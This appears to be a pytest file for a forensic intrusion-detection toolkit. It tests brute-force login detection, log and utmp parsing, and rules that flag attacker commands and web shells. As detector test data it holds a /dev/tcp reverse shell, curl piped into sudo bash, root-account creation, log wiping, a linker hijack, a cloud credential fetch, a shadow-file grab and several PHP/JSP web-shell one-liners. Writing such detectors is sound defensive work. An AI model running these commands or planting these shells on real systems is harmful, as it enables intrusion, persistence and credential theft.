"""Log-ins, histories, commands, web requests."""

from __future__ import annotations

import struct
from dataclasses import replace
from datetime import UTC, datetime, timedelta, timezone, tzinfo

import pytest

from forensic_toolkit.readers import login_logs, system_logs
from forensic_toolkit.readers.coverage import Artifact
from forensic_toolkit.readers.system_logs import Line
from forensic_toolkit.results import Event, Finding
from forensic_toolkit.rules import shell_histories, web_rules
from forensic_toolkit.rules.command_rules import judge, rules
from forensic_toolkit.times import parse_syslog

MODIFIED = datetime(2026, 3, 2, tzinfo=UTC)


def auth_log(*, failures: int, address: str = "198.51.100.7", success: bool = True) -> str:
    """An attack at one attempt every 5 seconds."""
    lines = [
        f"Mar  1 10:{number * 5 // 60:02d}:{number * 5 % 60:02d} web sshd[{number}]: Failed password for "
        f"invalid user u{number} from {address} port 4{number:04d} ssh2"
        for number in range(failures)
    ]
    if success:
        lines.append(f"Mar  1 10:20:00 web sshd[999]: Accepted password for admin from {address} port 50000 ssh2")
    return "\n".join(lines)


def lines(text: str, *, zone: tzinfo = UTC) -> list[Line]:
    """The lines of a log that was last written at MODIFIED."""
    return list(system_logs.parse(text, artifact=Artifact("x", "/var/log/secure", 1), modified=MODIFIED, zone=zone))


def judged(text: str) -> list[Finding]:
    """Findings of a log."""
    logins = list(login_logs.attempts(lines(text)))
    return list(login_logs.guessing(logins))


def test_failures_then_success_is_a_guessed_password() -> None:
    (finding,) = judged(auth_log(failures=6))
    assert (finding.severity, finding.technique) == ("critical", "T1110")
    assert finding.time == datetime(2026, 3, 1, 10, 20, tzinfo=UTC)
    assert finding.data["failed"] == 6


@pytest.mark.parametrize(("failures", "success", "expected"), [(4, True, []), (9, False, ["low"]), (0, True, [])])
def test_other_mixtures(failures: int, success: bool, expected: list[str]) -> None:
    assert [finding.severity for finding in judged(auth_log(failures=failures, success=success))] == expected


def test_another_address_does_not_succeed_for_the_guesser() -> None:
    text = auth_log(failures=9, success=False) + "\n" + auth_log(failures=0, address="203.0.113.9")
    assert [finding.severity for finding in judged(text)] == ["low"]


def test_year_of_old_log_lines_comes_from_the_file() -> None:
    january = datetime(2026, 1, 3, tzinfo=UTC)
    moment = parse_syslog("Dec 31 23:59:59 host x: y", not_after=january)
    assert moment == datetime(2025, 12, 31, 23, 59, 59, tzinfo=UTC)
    iso = parse_syslog("2026-01-02T03:04:05.5+02:00 host x: y", not_after=january)
    assert iso == datetime(2026, 1, 2, 1, 4, 5, 500_000, tzinfo=UTC)
    assert parse_syslog("no time here", not_after=january) is None


def utmp(kind: int, user: str, host: str, seconds: int) -> bytes:
    """One record of glibc's struct utmp."""
    head = struct.pack("<hxxi32s4s32s256s", kind, 42, b"pts/0", b"ts/0", user.encode(), host.encode())
    record = head + struct.pack("<hhiii16s20x", 0, 0, 0, seconds, 250_000, bytes((198, 51, 100, 7)) + bytes(12))
    assert len(record) == 384
    return record


def test_utmp_records() -> None:
    content = utmp(7, "admin", "", 1_767_323_045) + utmp(2, "reboot", "6.1.0", 1_767_320_000) + bytes(384) + b"cut"
    sessions = login_logs.sessions(content)
    found = list(login_logs.session_events(sessions, source="/var/log/wtmp", failed=False))
    assert [event.what for event in found] == ["Log-in: admin from 198.51.100.7 on pts/0", "System booted"]
    assert found[0].time.isoformat() == "2026-01-02T03:04:05.250000+00:00"
    assert login_logs.records_in(content) == (2, "3 bytes at its end are no whole record")


def test_utmp_records_of_arm64() -> None:
    head = struct.pack("<hxxi32s4s32s256s", 7, 42, b"pts/0", b"ts/0", b"ec2-user", b"198.51.100.7")
    content = (head + struct.pack("<hhqqq16s20x4x", 0, 0, 0, 1_767_323_045, 250_000, bytes(16))) * 24
    assert len(content) == 9600  # a whole number of records of either form
    found = list(login_logs.sessions(content))
    assert len(found) == 24
    assert (found[0].user, found[0].time.isoformat()) == ("ec2-user", "2026-01-02T03:04:05.250000+00:00")


def test_lines_without_offset_are_in_the_systems_zone() -> None:
    (line,) = lines("Mar  1 10:20:00 web sshd[9]: x", zone=timezone(timedelta(hours=2)))
    assert line.time == datetime(2026, 3, 1, 8, 20, tzinfo=UTC)
    assert (line.host, line.program, line.pid, line.message) == ("web", "sshd", "9", "x")


def test_what_rsyslog_copied_from_the_journal_counts_once() -> None:
    first = list(login_logs.attempts(lines(auth_log(failures=2))))
    copy = [replace(login, time=login.time + timedelta(milliseconds=300), source="journal") for login in first]
    other = replace(copy[0], port=1)
    assert login_logs.without_twins(first, [*copy, other]) == [*first, other]


def test_history_times() -> None:
    text = "#1767323045\nid\nuname -a\n: 1767323050:0;wget http://198.51.100.7/x\n\n"
    found = [(time.second if time else None, command) for time, command in shell_histories.commands(text)]
    assert found == [(5, "id"), (5, "uname -a"), (10, "wget http://198.51.100.7/x")]
    assert list(shell_histories.commands("id\n")) == [(None, "id")]


@pytest.mark.parametrize(
    ("command", "name"),
    [
        ("bash -i >& /dev/tcp/198.51.100.7/4444 0>&1", "Reverse shell"),
        ("curl -fsSL https://x.example/i.sh | sudo bash", "Download piped into an interpreter"),
        ("curl http://198.51.100.7/a -o /tmp/.x", "Download from a bare address"),
        ("chmod u+s /bin/bash", "Set-user-id bit set"),
        ("useradd -ou 0 -g 0 evil -u 0", "Superuser account made"),
        ("echo ssh-rsa AAA >> ~/.ssh/authorized_keys", "SSH key added"),
        ("unset HISTFILE", "Shell history disabled or erased"),
        ("ln -sf /dev/null ~/.bash_history", "Shell history disabled or erased"),
        ("rm -rf /var/log/nginx", "Logs erased"),
        ("(crontab -l; echo x) | crontab -", "Cron job written"),
        ("echo /x.so > /etc/ld.so.preload", "Dynamic linker hijacked"),
        ("./xmrig -o stratum+tcp://pool:3333", "Mining software"),
        ("cp /bin/sh /usr/local/lib/.cache/sh", "File placed under a hidden or temporary name"),
        ("curl http://169.254.169.254/latest/meta-data/iam/security-credentials/", "Cloud credentials read"),
        ("tar czf /tmp/a.tgz /etc/shadow", "Password hashes read or packed"),
        ("whoami", "Looking around"),
    ],
)
def test_commands_of_intruders(command: str, name: str) -> None:
    rule = judge(command)
    assert rule is not None
    # A bare address outweighs nothing that is worse; only order decides.
    assert rule.name == name or rules().index(rule) < next(i for i, r in enumerate(rules()) if r.name == name)


@pytest.mark.parametrize(
    "command",
    [
        "ls -la",
        "systemctl restart nginx",
        "tail -f /var/log/syslog",
        "vim /etc/nginx/nginx.conf",
        "chmod 755 /usr/local/bin/deploy",
        "curl https://example.com/health",
        "crontab -l",
        "eval $(ssh-agent)",
    ],
)
def test_commands_of_administrators(command: str) -> None:
    assert judge(command) is None


def test_hostile_commands_are_judged_in_time() -> None:
    started = datetime.now(UTC)
    for text in (
        "a" * 100_000,
        "curl " * 20_000,
        "/tmp/" * 20_000,
        "chmod " + "-x " * 30_000,
        "rm -" + "a " * 40_000,
    ):
        judge(text)
    assert (datetime.now(UTC) - started).total_seconds() < 2


@pytest.mark.parametrize(
    "content",
    [
        '<?php system($_POST["x"]); ?>',
        "<?php @eval(base64_decode($_REQUEST['z'])); ?>",
        "<?php $c = $_GET['c']; echo shell_exec($c); ?>",
        "<?php $_GET['f']($_GET['a']); ?>",
        "<?php echo `$_GET[c]`; ?>",
        '<% Runtime.getRuntime().exec(request.getParameter("c")); %>',
    ],
)
def test_web_shells(content: str) -> None:
    assert web_rules.what_it_does(content)


@pytest.mark.parametrize(
    "content",
    [
        "<?php echo htmlspecialchars($_GET['q']); ?>",
        "<?php exec('/usr/bin/convert a b'); $x = $_POST['y']; ?>",
        "<?php $page = $_GET['p']; include 'header.php'; ?>",
    ],
)
def test_ordinary_scripts(content: str) -> None:
    assert web_rules.what_it_does(content) is None


def test_requests_to_a_shell_and_attacks() -> None:
    line = '198.51.100.7 - - [01/Mar/2026:10:00:00 +0100] "{}" 200 5 "-" "curl/8"\n'
    text = line.format("POST /up/x.php?a=1 HTTP/1.1") + line.format("GET /?q=../../../etc/passwd HTTP/1.1")
    text += line.format("GET /index.html HTTP/1.1") + "broken line\n"
    log = Artifact("web log", "access.log", len(text))
    items = list(web_rules.requests(text, artifact=log, shells={"/up/x.php": "/var/www/html/up/x.php"}))
    findings = [item for item in items if isinstance(item, Finding)]
    assert [(finding.severity, finding.technique) for finding in findings] == [
        ("critical", "T1505.003"),
        ("medium", "T1190"),
    ]
    assert sum(isinstance(item, Event) for item in items) == 3
    assert (log.lines, log.parsed) == (4, 3)
    assert log.shortfalls() == ["3 of 4 lines were understood"]
    assert findings[0].time == datetime(2026, 3, 1, 9, tzinfo=UTC)


def test_urls_of_files_below_web_roots() -> None:
    urls = web_rules.urls_of(["/var/www/html/a/x.php", "/srv/http/y.php"], served=("/var/www", "/srv/http"))
    assert urls["/a/x.php"] == "/var/www/html/a/x.php"
    assert urls["/y.php"] == "/srv/http/y.php"
